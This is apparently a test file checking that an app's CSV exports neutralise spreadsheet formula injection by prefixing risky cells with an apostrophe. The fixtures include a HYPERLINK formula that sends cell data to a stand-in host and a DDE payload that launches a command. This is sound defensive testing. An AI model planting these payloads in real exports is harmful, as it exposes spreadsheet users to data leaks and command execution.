/**
 * CSV injection (issue 13, item 8): texts that a spreadsheet would run as formulas reach every
 * CSV Mesa writes with a leading `'` — the admin proposal export, both zips (on PostgreSQL the
 * COPY path and its paged twin, byte for byte), the plan and the round results — while
 * numbers, a Decidim alignment of -1 included, stay numbers.
 */
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { poolOf } from '../../db/connect.ts';
import { adminAgent, processBody, residents, testApp, type Agent, type TestApp } from '../../test/harness.ts';
import { commentsFile, consultationFile, proposalsFile } from './contributions.ts';
import { decidimFiles } from './decidim.ts';
import { copyCsv, pagedCsv, type SqlCsvFile } from './sql-csv.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"Details")';
/** The texts of the issue, each written into a different field. */
const EVIL = [HYPERLINK, '@SUM(1+1)', '+1', '-1 text', '\tTAB start', '\rCR start'];
const safe = (s: string) => `'${s}`;
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

let t: TestApp;
let admin: Agent;
let processId: string;
const ids: Record<string, string> = {};

type Csv = { name: string; text: string; delimiter: string };
const rowsOf = (c: Csv) => parse(c.text, { columns: true, delimiter: c.delimiter, bom: true, relax_column_count: true }) as Record<string, string>[];

/** Every cell of a CSV that a spreadsheet would run: none, but plain numbers (which are not formulas). */
function formulaCells(c: Csv): string[] {
  const cells = (parse(c.text, { delimiter: c.delimiter, bom: true, relax_column_count: true }) as string[][]).flat();
  return cells.filter((v) => FORMULA.test(v) && !NUMBER.test(v));
}

async function zipCsvs(url: string, delimiter: string): Promise<Csv[]> {
  const res = await admin.get(url);
  expect(res.statusCode, url).toBe(200);
  return Object.entries(unzipSync(new Uint8Array(res.rawPayload))).filter(([n]) => n.endsWith('.csv')).map(([name, v]) => ({ name, text: strFromU8(v), delimiter }));
}
async function text(chunks: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const c of chunks) parts.push(typeof c === 'string' ? Buffer.from(c) : Buffer.from(c));
  return Buffer.concat(parts);
}

beforeAll(async () => {
  t = await testApp();
  admin = await adminAgent(t);
  const [ana, beto] = await residents(t, 2, 'Vecina');
  expect((await admin.post('/api/processes', processBody('formulas'))).statusCode).toBe(201);
  processId = (await t.db.selectFrom('processes').select('id').where('slug', '=', 'formulas').executeTakeFirstOrThrow()).id;
  await admin.post('/api/processes/formulas/active-phase', { kind: 'open-call' });
  for (const [i, who] of [ana!, beto!, ana!, beto!, ana!, beto!].entries()) {
    const res = await who.post('/api/processes/formulas/proposals', { title: `Propuesta ${i}`, body: 'Texto', area: 'access-to-information', sector: 'civil-society' });
    expect(res.statusCode, res.body).toBe(201);
    ids[`p${i}`] = res.json().id;
  }
  await ana!.post(`/api/proposals/${ids.p0}/supports`);
  await t.app.proposalCounts.flush(); // the exports read the rolled-up count, written at most every 250 ms
  const c1 = await beto!.post(`/api/proposals/${ids.p0}/comments`, { body: 'comentario', alignment: 'against' });
  expect(c1.statusCode, c1.body).toBe(201);
  ids.comment = c1.json().id;
  expect((await admin.post(`/api/proposals/${ids.p1}/answer`, { state: 'accepted', answer: 'respuesta' })).statusCode).toBe(200);
  // a closed dots round on two of them
  await admin.post('/api/processes/formulas/active-phase', { kind: 'prioritisation' });
  const round = (await admin.post('/api/processes/formulas/rounds', { title: 'Priorizar', method: 'dots', eligibility: 'residents', proposalIds: [ids.p0, ids.p1] })).json();
  ids.round = round.id;
  await admin.post(`/api/rounds/${round.id}/open`);
  expect((await ana!.put(`/api/rounds/${round.id}/ballot`, { dots: { [ids.p0!]: 2, [ids.p1!]: 1 } })).statusCode).toBe(200);
  await admin.post(`/api/rounds/${round.id}/close`);
  // a commitment with a milestone, in consultation, commented with a reasoned reply
  await admin.post('/api/processes/formulas/selection', { proposalIds: [ids.p0] });
  await admin.post('/api/processes/formulas/active-phase', { kind: 'drafting' });
  const made = await admin.post('/api/processes/formulas/commitments', { title: 'Compromiso', sourceProposalIds: [ids.p0], area: 'access-to-information' });
  expect(made.statusCode, made.body).toBe(201);
  ids.commitment = made.json().id;
  const patched = await admin.patch(`/api/commitments/${ids.commitment}`, { baseVersion: 0, fields: { description: 'desc' }, milestones: [{ title: 'Hito', startsOn: '2025-06-01', endsOn: '2025-12-31' }] });
  expect(patched.statusCode, patched.body).toBe(200);
  expect((await admin.post('/api/processes/formulas/consultation', { closesAt: new Date(Date.now() + 3_600_000).toISOString() })).statusCode).toBe(200);
  const cc = await beto!.post(`/api/commitments/${ids.commitment}/comments`, { body: 'consulta', anchor: { field: 'description', quote: 'desc' } });
  expect(cc.statusCode, cc.body).toBe(201);
  expect((await admin.post(`/api/comments/${cc.json().id}/response`, { outcome: 'partially', text: 'réplica' })).statusCode).toBe(200);

  // The texts go in as stored data, so a tab or CR start survives the API's trimming.
  for (const [i, s] of EVIL.entries()) await t.db.updateTable('proposals').set({ title: s, body: EVIL[(i + 1) % EVIL.length]!, organisation: EVIL[(i + 2) % EVIL.length]! }).where('id', '=', ids[`p${i}`]!).execute();
  await t.db.updateTable('proposals').set({ answer_text: '-respuesta', external_ref: '@ref' }).where('id', '=', ids.p1!).execute();
  await t.db.updateTable('users').set({ display_name: '=cmd|\' /C calc\'!A0' }).where('display_name', 'like', 'Vecina%').execute();
  await t.db.updateTable('comments').set({ body: '+comentario' }).where('process_id', '=', processId).where('target_type', '=', 'proposals').execute();
  await sql`update comments set body = '@consulta', response = jsonb_set(response, '{text}', '"=réplica"') where target_type = 'commitments' and process_id = ${processId}`.execute(t.db);
  await t.db.updateTable('commitments').set({ title: HYPERLINK, reference: '-C1' }).where('id', '=', ids.commitment!).execute();
  await t.db.updateTable('milestones').set({ title: '\rHito', deliverable: '\tEntregable' }).where('commitment_id', '=', ids.commitment!).execute();
}, 60_000);
afterAll(async () => { await t?.close(); });

describe('every CSV Mesa writes: no cell a spreadsheet would run', () => {
  it('the admin proposal export', async () => {
    const res = await admin.get('/api/processes/formulas/proposals/export?format=csv');
    expect(res.statusCode).toBe(200);
    const csv: Csv = { name: 'proposals-export.csv', text: res.body, delimiter: ',' };
    expect(formulaCells(csv)).toEqual([]);
    const rows = rowsOf(csv);
    expect(rows.map((r) => r.title)).toEqual(EVIL.map(safe));
    expect(rows[1]).toMatchObject({ externalRef: "'@ref", answer: "'-respuesta", organisation: safe('-1 text') });
    expect(rows[0]!.supports).toBe('1');
    // the JSON export is data, not a spreadsheet: unchanged
    expect(JSON.parse((await admin.get('/api/processes/formulas/proposals/export?format=json')).body)[0].title).toBe(HYPERLINK);
  });

  it('the contributions zip: every file', async () => {
    const files = await zipCsvs('/api/processes/formulas/export/contributions', ',');
    expect(files.map((f) => f.name).sort()).toEqual(['comments.csv', 'consultation-comments.csv', 'proposals.csv', 'round-results.csv', 'workshop-attendance.csv']);
    for (const f of files) expect(formulaCells(f), f.name).toEqual([]);
    const byName = Object.fromEntries(files.map((f) => [f.name, rowsOf(f)]));
    expect(byName['proposals.csv']!.map((r) => r.title)).toEqual(EVIL.map(safe));
    expect(byName['proposals.csv']!.map((r) => r.author)).toEqual(EVIL.map(() => "'=cmd|' /C calc'!A0"));
    expect(byName['comments.csv']![0]).toMatchObject({ body: "'+comentario", depth: '1', upVotes: '0' });
    expect(byName['consultation-comments.csv']![0]).toMatchObject({ body: "'@consulta", replyText: "'=réplica", commitmentReference: "'-C1", commitmentTitle: safe(HYPERLINK) });
    expect(byName['round-results.csv']!.map((r) => r.title)).toEqual([safe(HYPERLINK), safe('@SUM(1+1)')]);
    expect(byName['round-results.csv']![0]!.score).toBe('2');
  });

  it('the Decidim zip: every file; a comment against keeps its alignment -1', async () => {
    const files = await zipCsvs('/api/processes/formulas/export/decidim', ';');
    for (const f of files) expect(formulaCells(f), f.name).toEqual([]);
    const byName = Object.fromEntries(files.map((f) => [f.name, rowsOf(f)]));
    expect(byName['proposals.csv']!.map((r) => r['title/en'])).toEqual(EVIL.map(safe));
    expect(byName['proposal_comments.csv']![0]).toMatchObject({ body: "'+comentario", alignment: '-1', depth: '0' });
    expect(byName['results.csv']!.map((r) => r['title/en'])).toEqual([safe(HYPERLINK), "'\rHito"]);
    expect(byName['results.csv']!.map((r) => r.reference)).toEqual(["'-C1", "'-C1-M1"]);
    expect(byName['results.csv']![1]!['description/en']).toBe("'\tEntregable");
  });

  it('the plan CSVs: commitments and milestones', async () => {
    const commitments = await admin.get('/api/processes/formulas/export?format=csv&table=commitments');
    const milestones = await admin.get('/api/processes/formulas/export?format=csv&table=milestones');
    expect([commitments.statusCode, milestones.statusCode]).toEqual([200, 200]);
    const c: Csv = { name: 'commitments.csv', text: commitments.body, delimiter: ',' };
    const m: Csv = { name: 'milestones.csv', text: milestones.body, delimiter: ',' };
    expect([formulaCells(c), formulaCells(m)]).toEqual([[], []]);
    expect(rowsOf(c)[0]).toMatchObject({ reference: "'-C1", title: safe(HYPERLINK), milestones: '1' });
    expect(rowsOf(m)[0]).toMatchObject({ commitmentReference: "'-C1", title: "'\rHito", deliverable: "'\tEntregable", position: '1', progress: '0' });
  });

  it('the round results CSV', async () => {
    const res = await admin.get(`/api/rounds/${ids.round}/results/export?format=csv`);
    expect(res.statusCode).toBe(200);
    const csv: Csv = { name: 'round-results.csv', text: res.body, delimiter: ',' };
    expect(formulaCells(csv)).toEqual([]);
    // its first line is a note on the results; the header follows
    expect(res.body.split('\n')[0]).toMatch(/^"?# final results/);
    expect(rowsOf({ ...csv, text: res.body.slice(res.body.indexOf('\nrank,') + 1) }).map((r) => [r.title, r.score])).toEqual([[safe(HYPERLINK), '2'], [safe('@SUM(1+1)'), '1']]);
  });
});

describe.runIf(process.env.DATABASE_URL)('on PostgreSQL', () => {
  it('COPY writes the same safe cells as the pages, byte for byte', async () => {
    const pool = poolOf(t.db)!;
    const exportProcess = { id: processId, slug: 'formulas', title: 'F', language: 'en' };
    const files = [proposalsFile(processId), commentsFile(processId), consultationFile(processId),
      ...decidimFiles(t.db, exportProcess, 'http://localhost:3000').filter((f): f is SqlCsvFile => 'rows' in f)];
    for (const file of files) {
      const copied = await text(copyCsv(pool, t.db, file));
      expect(copied.equals(await text(pagedCsv(t.db, file, 2))), file.name).toBe(true);
      expect(formulaCells({ name: file.name, text: copied.toString(), delimiter: file.delimiter ?? ',' }), file.name).toEqual([]);
    }
    const proposals = copied(await text(copyCsv(pool, t.db, proposalsFile(processId))));
    expect(proposals).toContain(`'${HYPERLINK.replaceAll('"', '""')}`);
  });
});

const copied = (b: Buffer) => b.toString('utf8');
